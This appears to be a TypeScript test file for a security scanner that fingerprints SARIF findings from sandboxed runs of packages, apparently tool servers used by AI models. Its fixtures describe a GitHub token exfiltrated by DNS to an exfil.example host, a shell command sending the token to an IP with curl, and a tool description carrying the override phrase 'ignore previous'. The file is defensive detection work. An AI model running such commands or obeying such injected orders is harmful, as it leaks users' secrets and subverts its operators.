// Tests for sarif-fingerprint.ts: the normalised incident key keeps what the package chose and
// drops what the run chose, so the fingerprints of two runs of one package match.
import { describe, expect, it } from 'vitest';
import type { Finding } from '../src/domain/types.js';
import { sarifLog } from './render-sarif.js';
import { sampleReport } from './sample-report.js';
import { FINGERPRINT_KEY, incidentKey, normalise } from './sarif-fingerprint.js';

/** The sample report with other findings. */
const withFindings = (findings: Finding[]) => ({ ...sampleReport(), findings });

describe('normalise', () => {
  it('replaces pids, temp names and encoded values, and keeps words and paths', () => {
    expect(normalise('/tmp/tmp-4242-Xy9zQw/run.sh')).toBe('/tmp/tmp-#-*/run.sh');
    expect(normalise('curl -H "x: ghp_Zt9fQ1aB2cD3eF4gH5iJ6" http://198.18.0.5:8080/')).toBe(
      'curl -H "x: *" http://#.#.#.#:#/',
    );
    expect(normalise('~/.config/autostart/update.desktop')).toBe(
      '~/.config/autostart/update.desktop',
    );
  });
});

describe('incidentKey', () => {
  const base: Finding = {
    rule: 'net/egress-http',
    severity: 'medium',
    title: 'HTTPS egress to a.example',
    phase: 'exercise',
    evidence: { host: 'A.Example', ip: '198.18.0.9', port: 443 },
  };

  it('names the host, not the fake address the run handed out', () => {
    expect(incidentKey(base)).toBe('scope=run\nhost=a.example\nport=443');
  });

  it('keeps a raw IP the package dialled, and marks a fake one', () => {
    const raw = { ...base, evidence: { ip: '203.0.113.9', port: 4444 } };
    expect(incidentKey(raw)).toContain('ip=203.0.113.9');
    expect(incidentKey({ ...raw, evidence: { ip: '198.19.0.1' } })).toContain('ip=fake-dns');
  });

  it('separates install-time from run-time incidents', () => {
    expect(incidentKey({ ...base, phase: 'install' })).not.toBe(incidentKey(base));
  });
});

describe('fingerprints', () => {
  /** Findings of one package as two runs with different seeds, canaries, ports and fake IPs see them. */
  function runOf(v: { runId: string; seed: number; token: string; ip: string; pid: number }) {
    const findings: Finding[] = [
      {
        rule: 'exfil/canary',
        severity: 'critical',
        title: `GITHUB_TOKEN leaked to ${v.token}.x.exfil.example via DNS (hex)`,
        phase: 'exercise',
        tool: 'lookup',
        evidence: {
          canary: 'env:GITHUB_TOKEN',
          channel: 'dns',
          host: `${v.token}.x.exfil.example`,
          ip: v.ip,
          port: 53,
          payloadExcerpt: v.token,
        },
      },
      {
        rule: 'proc/shell',
        severity: 'high',
        title: `The server started a shell (pid ${v.pid})`,
        phase: 'exercise',
        tool: 'run',
        evidence: {
          cmdline: `sh -c curl -H 'x: ${v.token}' http://${v.ip}:${v.pid}/ -o /tmp/tmp-${v.pid}-${v.token.slice(0, 6)}`,
        },
      },
      {
        rule: 'net/egress-http',
        severity: 'medium',
        title: `HTTPS egress to telemetry.example (${v.ip}):443`,
        phase: 'exercise',
        tool: 'run',
        evidence: { host: 'telemetry.example', ip: v.ip, port: 443, payloadExcerpt: v.token },
      },
      {
        rule: 'net/configured-endpoint',
        severity: 'info',
        title: `HTTPS to ${v.token}.internal.example`,
        phase: 'exercise',
        evidence: { host: `${v.token}.internal.example`, field: 'API_URL', port: 443 },
      },
      {
        rule: 'meta/hidden-instructions',
        severity: 'high',
        title: 'Tool description gives the model orders',
        phase: 'enumerate',
        tool: 'run',
        evidence: { source: 'tool-description', text: `ignore previous ${v.runId}`, count: 1 },
      },
      {
        rule: 'coverage/not-examined',
        severity: 'high',
        title: `Tool run timed out ${v.pid} ms after call c${v.seed}`,
        phase: 'exercise',
        tool: 'run',
        evidence: {},
      },
    ];
    const base = sampleReport();
    return sarifLog({ ...base, runId: v.runId, seed: v.seed, findings, startedAt: v.runId });
  }
  const fps = (log: ReturnType<typeof sarifLog>) =>
    log.runs[0]?.results.map((r) => r.partialFingerprints?.[FINGERPRINT_KEY]) ?? [];

  it('are the same for two runs of the same package', () => {
    const a = runOf({ runId: 'r-1', seed: 1, token: 'ab12cd34ef', ip: '198.18.0.7', pid: 101 });
    const b = runOf({ runId: 'r-2', seed: 9, token: '9f8e7d6c5b', ip: '198.19.4.2', pid: 4242 });
    expect(fps(a)).toEqual(fps(b));
    expect(new Set(fps(a)).size).toBe(fps(a).length);
    for (const fp of fps(a)) expect(fp).toMatch(/^[0-9a-f]{64}$/);
    expect(a.runs[0]?.results[0]?.fingerprints).toEqual(a.runs[0]?.results[0]?.partialFingerprints);
  });

  it('differ for different hosts, raw IPs, packages and rules', () => {
    const egress = (host: string | undefined, ip: string, name = 'pkg'): string | undefined => {
      const f: Finding = {
        rule: 'net/egress-http',
        severity: 'medium',
        title: 't',
        phase: 'exercise',
        evidence: { ...(host ? { host } : {}), ip, port: 443 },
      };
      const r = sampleReport();
      return fps(sarifLog({ ...r, target: { ...r.target, name }, findings: [f] }))[0];
    };
    expect(egress('a.example', '198.18.0.1')).not.toBe(egress('b.example', '198.18.0.1'));
    expect(egress(undefined, '203.0.113.1')).not.toBe(egress(undefined, '203.0.113.2'));
    expect(egress('a.example', '198.18.0.1')).not.toBe(egress('a.example', '198.18.0.1', 'other'));
  });

  it('number repeats within one log so no two alerts merge', () => {
    const f: Finding = {
      rule: 'proc/spawn',
      severity: 'info',
      title: 'started node',
      phase: 'exercise',
      evidence: { cmdline: 'node /tmp/a1.js' },
    };
    const out = fps(
      sarifLog(withFindings([f, { ...f, evidence: { cmdline: 'node /tmp/a2.js' } }])),
    );
    expect(out[1]).toBe(`${out[0]}:2`);
  });
});
